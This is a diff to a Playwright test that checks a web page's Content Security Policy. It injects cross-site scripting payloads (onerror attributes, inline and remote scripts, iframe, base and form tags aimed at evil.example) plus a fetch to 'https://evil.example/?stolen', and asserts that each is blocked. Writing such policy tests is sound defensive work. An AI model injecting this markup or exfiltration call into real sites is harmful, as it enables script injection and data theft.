@@ -1,30 +1,51 @@
 import {expect, test} from './support';
 
-/** What a page's policy blocks. That it blocks nothing of a page itself: pages.spec.ts. */
+/** What a page's policy blocks. That it blocks nothing of a page itself: every other test. */
+
 declare global {
   interface Window {
-    /** What was blocked, by its directive. */
-    violations: string[];
+    /** The directives that have blocked something, in time's order. */
+    blockedBy: string[];
   }
 }
 
-/** What is put into the page, and what the policy forbids of it. */
-const attacks = [
-  ['<img src="/nope.png" onerror="document.title = \'taken over\'">', 'script-src-attr'],
-  ['<p style="position: fixed; inset: 0">', 'style-src-attr'],
-  ['<iframe src="https://evil.example/"></iframe>', 'frame-src'],
-  ['<script>document.title = "taken over"</script>', 'script-src-elem'],
-  ['<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
-  ['<base href="https://evil.example/">', 'base-uri'],
-  ['<form action="https://evil.example/" method="post"></form>', 'form-action'],
-  ['a request to another server', 'connect-src'],
-] as const;
+/** What somebody puts into a page, and the directive that keeps it from doing anything. */
+const attacks: {name: string; directive: string; markup?: string}[] = [
+  {
+    name: 'a script in an attribute',
+    markup: '<img src="/nope.png" onerror="document.title = \'taken over\'">',
+    directive: 'script-src-attr',
+  },
+  {name: 'a style in an attribute', markup: '<p style="position: fixed; inset: 0">', directive: 'style-src-attr'},
+  {
+    name: 'a frame',
+    markup: '<iframe src="https://evil.example/"></iframe>',
+    directive: 'frame-src',
+  },
+  {
+    name: 'a script',
+    markup: '<script>document.title = "taken over"</script>',
+    directive: 'script-src-elem',
+  },
+  {
+    name: 'a script of another server',
+    markup: '<script src="https://evil.example/x.js"></script>',
+    directive: 'script-src-elem',
+  },
+  {name: 'a base for all addresses', markup: '<base href="https://evil.example/">', directive: 'base-uri'},
+  {
+    name: 'a form to another server',
+    markup: '<form action="https://evil.example/" method="post"></form>',
+    directive: 'form-action',
+  },
+  {name: 'a request to another server', directive: 'connect-src'},
+];
 
 test('scripts, styles, frames, forms and requests from outside do nothing', async ({page, problems}) => {
   await page.addInitScript(() => {
-    window.violations = [];
+    window.blockedBy = [];
     document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
-      window.violations.push(effectiveDirective),
+      window.blockedBy.push(effectiveDirective),
     );
   });
   const reached: string[] = [];
@@ -33,21 +54,26 @@ test('scripts, styles, frames, forms and requests from outside do nothing', asyn
     return route.abort();
   });
   await page.goto('/contact');
-  for (const [attack, directive] of attacks) {
-    const before = await page.evaluate(() => window.violations.length);
+  for (const {name, markup, directive} of attacks) {
+    const before = await page.evaluate(() => window.blockedBy.length);
     problems.length = 0;
     await page.evaluate((markup) => {
+      if (!markup) {
+        // It fails, as is asked below.
+        fetch('https://evil.example/?stolen').catch(() => {});
+        return;
+      }
       // Scripts of a fragment run.
       document.body.append(document.createRange().createContextualFragment(markup));
       document.querySelector<HTMLFormElement>('body > form')?.submit();
-      if (!markup.startsWith('<')) fetch('https://evil.example/?stolen').catch(() => {}); // as expected
-    }, attack);
-    const blocked = () => page.evaluate((before) => window.violations.slice(before), before);
-    await expect.poll(blocked, attack).toContain(directive);
+    }, markup);
+    const blockedBy = () => page.evaluate((before) => window.blockedBy.slice(before), before);
+    await expect.poll(blockedBy, name).toContain(directive);
     // It is written to the console, where every other test fails on it.
-    await expect.poll(() => problems.length, attack).toBeGreaterThan(0);
+    await expect.poll(() => problems.length, name).toBeGreaterThan(0);
   }
-  expect(await page.evaluate(() => [document.title, document.baseURI])).not.toContain('taken over');
+  expect(await page.title()).not.toBe('taken over');
+  expect(await page.evaluate(() => document.baseURI)).toMatch(/^http:\/\/localhost/);
   expect(page.url()).toMatch(/\/contact$/);
   expect(reached).toEqual([]);
   problems.length = 0;
